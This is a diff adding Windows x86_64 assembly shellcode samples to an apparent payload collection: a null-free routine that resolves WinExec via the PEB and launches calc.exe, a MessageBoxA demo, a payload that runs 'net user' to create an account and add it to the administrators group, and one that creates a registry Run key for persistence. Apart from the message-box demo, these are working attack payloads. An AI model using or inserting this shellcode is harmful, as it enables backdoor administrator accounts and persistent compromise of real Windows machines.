@@ -227,3 +227,92 @@ l1: db 'user32.dll', 0
 l2: db 'msvcrt.dll', 0
 l3: db 'ntdll.dll', 0
 c: db 'net user kenbi pw /add', 0
+
+;= w64_winexec_null_free 64 | windows x86_64 | execute calc.exe
+	push byte 0x60
+	pop rdx
+	mov rdx, [gs:rdx]
+	mov rsi, [rdx + 0x18]
+	mov rsi, [rsi + 0x10]
+	lodsq
+	mov rsi, [rax]
+	mov rdi, [rsi + 0x30]
+	mov edx, [rdi + 0x3c]
+	mov ebx, [rdi + rdx + 0x88]
+	mov esi, [rdi + rbx + 0x20]
+	add rsi, rdi
+	mov edx, [rdi + rbx + 0x24]
+f:	movzx ebp, word [rdi + rdx]
+	lea edx, [rdx + 2]
+	lodsd
+	cmp dword [rdi + rax], 'WinE'
+	jne f
+	mov esi, [rdi + rbx + 0x1c]
+	add rsi, rdi
+	mov esi, [rsi + rbp * 4]
+	add rdi, rsi
+	xor ecx, ecx
+	push rcx
+	mov rcx, 'calc.exe'
+	push rcx
+	push rsp
+	pop rcx
+	push byte 1
+	pop rdx
+	sub rsp, 0x28
+	call rdi
+
+;= w64_msgbox_dyn 64 | windows x86_64 | call MessageBoxA
+%include "windows64_calls.inc"
+HASH64 mb, 'MessageBoxA'
+HASH64 xp, 'ExitProcess'
+	RESOLVER64
+	lea rcx, [rel l1]
+	CALL64 rbx, load_library
+	mov rsi, rax
+	xor ecx, ecx
+	lea rdx, [rel t]
+	lea r8, [rel t]
+	xor r9d, r9d
+	CALL64 rsi, mb
+	xor ecx, ecx
+	CALL64 rbx, xp
+l1:	db 'user32.dll', 0
+t:	db 'hello', 0
+
+;= w64_adduser 64 | windows x86_64 | execute net user
+%include "windows64_calls.inc"
+HASH64 we, 'WinExec'
+HASH64 xp, 'ExitProcess'
+	RESOLVER64
+	lea rcx, [rel c]
+	xor edx, edx
+	CALL64 rbx, we
+	xor ecx, ecx
+	CALL64 rbx, xp
+c:	db 'cmd.exe /c net user a b /add & net localgroup administrators a /add', 0
+
+;= w64_reg_run 64 | windows x86_64 | call RegCreateKeyExA
+%include "windows64_calls.inc"
+HASH64 rc, 'RegCreateKeyExA'
+HASH64 rs, 'RegSetValueExA'
+	RESOLVER64
+	lea rcx, [rel l]
+	CALL64 rbx, load_library
+	mov rsi, rax
+	sub rsp, 0x60
+	mov rcx, 0xffffffff80000001
+	lea rdx, [rel k]
+	xor r8d, r8d
+	xor r9d, r9d
+	lea rax, [rsp + 0x50]
+	mov [rsp + 0x38], rax
+	CALL64 rsi, rc
+	mov rcx, [rsp + 0x50]
+	lea rdx, [rel v]
+	xor r8d, r8d
+	mov r9d, 1
+	CALL64 rsi, rs
+l:	db 'advapi32.dll', 0
+k:	db 'Software\Microsoft\Windows\CurrentVersion\Run', 0
+v:	db 'kenbi', 0
